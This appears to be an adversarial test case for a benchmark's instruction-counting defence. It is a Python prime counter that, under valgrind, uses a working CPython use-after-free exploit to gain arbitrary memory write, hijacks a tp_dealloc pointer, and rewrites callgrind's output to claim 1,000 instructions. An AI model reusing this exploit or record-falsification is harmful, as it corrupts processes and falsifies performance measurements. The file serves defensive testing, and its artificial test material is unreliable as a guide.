# class: 2 (the meter controlled from inside), found while reviewing the dump-before defence
# attacks: the array_memory_corruption exploit forces callgrind to dump a part after the
#          work, then rewrites that part file (the measured process may write its own record
#          files: valgrind runs in it) so that it claims 1,000 instructions. The parent
#          watches the record directory with inotify: valgrind writes and closes each file
#          once, so a write after a file's first close is refused as tampering.
# twin: primes
# meters: valgrind
# expected: tampering
# detail: written again after valgrind had closed it
import array
import struct
import sys


def _count(n):
    flags = [True] * n
    count = 0
    for i in range(2, n):
        if flags[i]:
            count += 1
            for j in range(i * i, n, i):
                flags[j] = False
    return count


def _under_valgrind():
    try:
        with open("/proc/self/maps") as handle:
            return "vgpreload" in handle.read()
    except OSError:
        return False


def _elf_symbol(path, wanted):
    with open(path, "rb") as handle:
        data = handle.read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum, _ = struct.unpack_from("<HHH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize)
                for i in range(shnum)]
    for sec in sections:
        if sec[1] == 11:  # SHT_DYNSYM
            strtab = sections[sec[6]]
            for k in range(sec[4], sec[4] + sec[5], sec[9]):
                name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, k)
                end = data.index(b"\0", strtab[4] + name)
                if data[strtab[4] + name:end] == wanted:
                    return value
    return None


_keep = []


def _memory():
    """An empty bytearray whose size was overwritten: mem[address] is any byte of memory."""
    cut = slice(1, None)
    for _ in range(20):
        arrays = [bytearray() for _ in range(4000)]
        spots = [k for k in range(1000, 3900) if id(arrays[k + 1]) == id(arrays[k]) + 64]
        if not spots:
            continue
        k = spots[len(spots) // 2]
        a = array.array("q", [0] * 20)

        class Evil:
            def __index__(self):
                arrays[k] = None
                del a[cut]
                return 1 << 62

        victim = arrays[k + 1]
        try:
            a[10] = Evil()
        except Exception:
            pass
        if len(victim) > 1 << 40:
            _keep.append(victim)
            return victim
    return None


class _Z:
    pass


def _reset():
    mem = _memory()
    target = _elf_symbol(sys.executable, b"PyOS_AfterFork_Child")
    if mem is None or not target:
        return
    victim = _Z()
    slot = id(_Z) + 48  # PyTypeObject.tp_dealloc
    mem[slot:slot + 8] = struct.pack("<Q", target)
    del victim


def _rewrite_part():
    """After the forced dump, the part valgrind just wrote holds the work so far: make it
    say almost nothing."""
    import os
    import re

    path = f"/cg/cg.out.{os.getpid()}.2"
    try:
        with open(path, "rb") as handle:
            text = handle.read()
        text = re.sub(rb"(?m)^(totals|summary): \d+", rb"\1: 1000", text)
        with open(path, "wb") as handle:
            handle.write(text)
    except OSError:
        pass


def f(n):
    result = _count(n)
    if _under_valgrind():
        _reset()
        _rewrite_part()
    return result
